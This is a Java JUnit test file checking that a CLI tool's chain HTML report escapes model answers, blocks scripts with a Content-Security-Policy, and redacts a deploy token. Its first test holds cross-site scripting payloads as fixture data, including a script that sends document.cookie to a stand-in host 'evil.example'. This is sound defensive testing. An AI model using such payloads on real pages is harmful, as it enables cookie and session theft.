package dev.marble.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A hostile model writes markup as its answer, hoping whoever opens the chain's HTML report runs it. Everything from
 * the journal is escaped, and the page allows no script at all. And a secret in an answer that the journal could not
 * know when it was written is redacted when the report is read.
 */
class ChainReportSecurityTest {

    @TempDir
    Path temp;

    @Test
    void aLinkAnswerWithAScriptComesOutInert() throws IOException {
        String attack = "<script>fetch('https://evil.example/?'+document.cookie)</script><img src=x onerror=alert(1)>";
        CliRunner cli = ChainReportTest.chainOfTwoRounds(temp, "\"><svg onload=alert(2)>", attack);

        var html = cli.run("chain", "report", "c", "--html", "report.html");
        assertThat(html.exit()).as(html.err()).isZero();
        String page = Files.readString(cli.project().resolve("report.html"));

        assertThat(page)
                .doesNotContain("<script")
                .doesNotContain("<img")
                .doesNotContain("<svg onload")
                .contains("&lt;script&gt;fetch(")
                .contains("&lt;img src=x onerror=alert(1)&gt;")
                .contains("&quot;&gt;&lt;svg onload=alert(2)&gt;")
                .contains("Content-Security-Policy\" content=\"default-src 'none'");
    }

    @Test
    void aSecretKnownOnlyWhenTheReportIsReadIsRedactedInEveryForm() throws IOException {
        String token = "tok-live-5b1f0c9e7d2a4f6b8c3e";
        CliRunner cli = ChainReportTest.chainOfTwoRounds(temp, "planned it", "deployed with " + token);
        cli.env("DEPLOY_TOKEN", token);

        var json = cli.run("chain", "report", "c", "--json", "-q");
        var text = cli.run("chain", "report", "c");
        var html = cli.run("chain", "report", "c", "--html", "report.html");

        assertThat(json.exit()).as(json.err()).isZero();
        assertThat(json.out()).doesNotContain(token).contains("deployed with [redacted:DEPLOY_TOKEN]");
        assertThat(text.out()).doesNotContain(token).contains("[redacted:DEPLOY_TOKEN]");
        assertThat(html.exit()).as(html.err()).isZero();
        assertThat(Files.readString(cli.project().resolve("report.html"))).doesNotContain(token);
    }
}
